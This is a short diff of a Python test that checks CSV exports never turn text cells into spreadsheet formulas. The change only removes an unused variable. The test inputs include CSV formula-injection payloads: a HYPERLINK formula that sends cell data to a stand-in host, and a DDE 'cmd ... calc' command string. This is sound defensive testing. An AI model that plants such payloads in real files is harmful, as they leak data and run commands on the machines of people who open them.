@@ -246,7 +246,7 @@ def test_csv_text_cells_are_never_formulas(tree_model, tmp_path, monkeypatch):
 
     root, model = tree_model
     names = ['=HYPERLINK("x.example?"&A1)', "-2+3+cmd|' -C calc'!A0", "-1.5"]
-    evil = edit_checkpoint_config(model, tmp_path / "evil", classes=names)
+    edit_checkpoint_config(model, tmp_path / "evil", classes=names)
     shutil.copytree(root / "calm", tmp_path / names[0])  # labelled by the first class
     shutil.copytree(root / "eddy", tmp_path / "@evil")
     monkeypatch.chdir(tmp_path)  # relative paths: the path cells begin with the folder's name
